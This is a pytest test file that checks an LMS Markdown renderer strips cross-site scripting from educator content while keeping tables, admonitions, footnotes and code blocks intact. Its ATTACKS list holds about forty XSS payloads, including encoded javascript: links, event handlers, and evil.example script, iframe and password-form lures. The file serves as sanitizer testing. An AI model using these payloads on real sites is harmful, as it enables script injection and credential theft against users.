"""Nothing an educator writes may run in a learner's browser; benign Markdown must survive."""

import re

import pytest

from lms.content import CourseLinks, render_inline, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnError=alert(1)>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#x20;javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '[click](https://example.org){: onclick="alert(1)" }',
    'A paragraph\n{: onmouseover="alert(1)" style="position:fixed" }',
    "## Heading {: onclick=alert(1) }",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<div onclick="alert(1)" class="admonition note evil">x</div>',
    '<a href="https://example.org" onmouseover="alert(1)">x</a>',
    "<!-- <script>alert(1)</script> -->",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '<a href="//evil.example">protocol relative</a>',
    "<img src=/\\evil.example/x.png alt=x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


def _assert_inert(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered
    assert re.search(r"\son\w+\s*=", lowered) is None
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert "data:" not in lowered
    assert "style=" not in lowered
    for tag in ("<iframe", "<object", "<embed", "<svg", "<math", "<form", "<input", "<meta"):
        assert tag not in lowered
    for tag in ("<base", "<link", "<style"):
        assert tag not in lowered
    assert 'href="//' not in lowered
    assert 'src="/\\' not in lowered


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_neutralised(attack):
    _assert_inert(render_markdown(attack).html)
    _assert_inert(render_inline(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_neutralised_with_the_course_resolver(attack):
    links = CourseLinks("demo", "demo/01-intro.md", {}, frozenset())
    _assert_inert(render_markdown(attack, link_resolver=links).html)


def test_attr_list_cannot_add_event_handlers_or_classes():
    html = render_markdown('Text\n{: onclick="alert(1)" class="evil" id="ok" }').html
    assert html == "<p>Text</p>"


def test_external_links_get_rel_and_keep_https_and_mailto():
    html = render_markdown("[EMA](https://www.ema.europa.eu/) and [us](mailto:atmp@example.se)")
    assert '<a href="https://www.ema.europa.eu/" rel="noopener noreferrer">EMA</a>' in html.html
    assert '<a href="mailto:atmp@example.se" rel="noopener noreferrer">us</a>' in html.html


def test_benign_markdown_survives():
    text = """## Storage temperatures

| Product | Temperature |
| --- | --- |
| Kymriah | below -120 °C |

!!! warning "Check the SmPC"
    The product information takes precedence.

CAR-T[^1] products are *gene therapies*, each an ATMP.

*[ATMP]: Advanced therapy medicinal product

```python
print("<script>not run</script>")
```

<details><summary>More</summary>

Hidden text.

</details>

[^1]: Chimeric antigen receptor T cells.
"""
    rendered = render_markdown(text)
    html = rendered.html
    assert '<h2 id="storage-temperatures">Storage temperatures</h2>' in html
    assert "<td>Kymriah</td>" in html
    assert '<div class="admonition warning">' in html
    assert '<p class="admonition-title">Check the SmPC</p>' in html
    assert '<sup id="fnref:1"><a href="#fn:1" rel="noopener noreferrer">1</a></sup>' in html
    assert '<li id="fn:1">' in html
    assert '<div class="footnote">' in html
    assert '<abbr title="Advanced therapy medicinal product">ATMP</abbr>' in html
    assert "<em>gene therapies</em>" in html
    assert "&lt;script&gt;not run&lt;/script&gt;" in html  # code is shown, not run
    assert "<details><summary>More</summary>" in html
    assert '<a href="#storage-temperatures"' in rendered.toc_html
    assert [(h.level, h.id, h.text) for h in rendered.headings] == [
        (2, "storage-temperatures", "Storage temperatures")
    ]


def test_ordered_list_keeps_its_start():
    assert '<ol start="3">' in render_markdown("3. three\n4. four").html


def test_render_inline_has_no_paragraph():
    assert render_inline("**Gene** therapy") == "<strong>Gene</strong> therapy"
    assert render_inline("one\n\ntwo") == "<p>one</p>\n<p>two</p>"
